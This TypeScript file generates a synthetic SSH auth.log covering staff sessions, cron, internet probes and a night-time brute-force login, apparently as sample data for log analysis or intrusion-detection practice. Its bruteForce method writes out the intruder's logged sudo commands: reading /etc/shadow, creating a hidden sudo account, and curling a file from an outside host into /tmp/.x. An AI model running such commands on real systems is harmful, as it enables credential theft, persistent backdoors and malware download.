import { Chance } from './chance.ts'
import { LogTimes } from './times.ts'

const START = Date.UTC(2024, 2, 5) / 1000
const STAFF = [
  { user: 'amara', ip: '198.51.100.21' },
  { user: 'jonas', ip: '198.51.100.34' },
  { user: 'mei', ip: '198.51.100.57' },
] as const

interface Line {
  readonly at: number
  readonly text: string
}

/**
 * Two days of a server's auth.log: three people at work, cron, the usual probes of the internet, and one brute force
 * that finds a password at night and goes on to sudo.
 */
export function authSample(seed: number): string {
  const log = new AuthLog(seed)
  for (let day = 0; day < 2; day++) {
    for (const person of STAFF) log.workday(START + day * 86_400, person.user, person.ip)
    for (let hour = 0; hour < 24; hour++) log.cron(START + day * 86_400 + hour * 3600 + 1020)
    for (let i = 0; i < 12; i++) log.probe(START + day * 86_400, `192.0.2.${30 + i}`)
  }
  log.bruteForce(START + 86_400 + 3 * 3600 + 720, '203.0.113.45', 'deploy', 64)
  return log.text()
}

class AuthLog {
  readonly #chance: Chance
  readonly #times = new LogTimes()
  readonly #lines: Line[] = []
  #pid = 1800

  constructor(seed: number) {
    this.#chance = new Chance(seed)
  }

  text(): string {
    return this.#lines
      .toSorted((a, b) => a.at - b.at)
      .map((line) => `${line.text}\n`)
      .join('')
  }

  workday(day: number, user: string, ip: string): void {
    const chance = this.#chance
    let at = day + 8 * 3600 + chance.below(3600)
    for (let i = 0; i < 5; i++) {
      const pid = this.#nextPid()
      if (chance.unit() < 0.15) {
        this.#add(at - 6, `sshd[${pid}]`, `Failed password for ${user} from ${ip} port ${this.#port()} ssh2`)
      }
      this.#session(at, pid, user, ip, 'publickey', 1500 + chance.below(2500))
      if (user !== 'mei' && chance.unit() < 0.6) this.#sudo(at + 300, user, '/usr/bin/systemctl reload nginx')
      at += 5400 + chance.below(1800)
    }
  }

  cron(at: number): void {
    const pid = this.#nextPid()
    this.#add(at, `CRON[${pid}]`, 'pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)')
    this.#add(at, `CRON[${pid}]`, '(root) CMD (   cd / && run-parts --report /etc/cron.hourly)')
    this.#add(at + 1, `CRON[${pid}]`, 'pam_unix(cron:session): session closed for user root')
  }

  probe(day: number, ip: string): void {
    const at = day + this.#chance.below(86_000)
    const pid = this.#nextPid()
    const port = this.#port()
    const user = this.#chance.pick(['admin', 'test', 'oracle', 'ubnt', 'pi'])
    this.#add(at, `sshd[${pid}]`, `Invalid user ${user} from ${ip} port ${port}`)
    this.#add(at + 2, `sshd[${pid}]`, `Failed password for invalid user ${user} from ${ip} port ${port} ssh2`)
    this.#add(at + 3, `sshd[${pid}]`, `Connection closed by invalid user ${user} ${ip} port ${port} [preauth]`)
  }

  /** Failures until a password fits; then a shell, sudo, a new account. */
  bruteForce(start: number, ip: string, user: string, tries: number): void {
    let at = start
    for (let i = 0; i < tries; i++) {
      const pid = this.#nextPid()
      this.#add(at, `sshd[${pid}]`, `Failed password for ${user} from ${ip} port ${this.#port()} ssh2`)
      at += 1 + this.#chance.below(3)
    }
    this.#session(at, this.#nextPid(), user, ip, 'password', 900)
    this.#sudo(at + 40, user, '/bin/cat /etc/shadow')
    this.#sudo(at + 75, user, '/usr/sbin/useradd -m -G sudo backup2')
    this.#add(
      at + 75,
      `useradd[${this.#nextPid()}]`,
      'new user: name=backup2, UID=1004, GID=1004, home=/home/backup2, shell=/bin/sh, from=/dev/pts/2',
    )
    this.#sudo(at + 110, user, '/usr/bin/curl -o /tmp/.x http://203.0.113.66/x')
  }

  #session(at: number, pid: number, user: string, ip: string, method: string, seconds: number): void {
    const port = this.#port()
    const key = method === 'publickey' ? ': ED25519 SHA256:9Qx0exampleexampleexampleexampleexampleexamp' : ''
    this.#add(at, `sshd[${pid}]`, `Accepted ${method} for ${user} from ${ip} port ${port} ssh2${key}`)
    this.#add(at, `sshd[${pid}]`, `pam_unix(sshd:session): session opened for user ${user}(uid=1001) by (uid=0)`)
    this.#add(at + seconds, `sshd[${pid}]`, `Disconnected from user ${user} ${ip} port ${port}`)
    this.#add(at + seconds, `sshd[${pid}]`, `pam_unix(sshd:session): session closed for user ${user}`)
  }

  #sudo(at: number, user: string, command: string): void {
    this.#add(at, 'sudo', `  ${user} : TTY=pts/2 ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`)
    this.#add(at, 'sudo', `pam_unix(sudo:session): session opened for user root(uid=0) by ${user}(uid=1001)`)
    this.#add(at + 1, 'sudo', 'pam_unix(sudo:session): session closed for user root')
  }

  #nextPid(): number {
    this.#pid += 1 + this.#chance.below(40)
    return this.#pid
  }

  #port(): number {
    return 32_768 + this.#chance.below(28_000)
  }

  #add(at: number, tag: string, message: string): void {
    this.#lines.push({ at, text: `${this.#times.syslog(at)} web-1 ${tag}: ${message}` })
  }
}
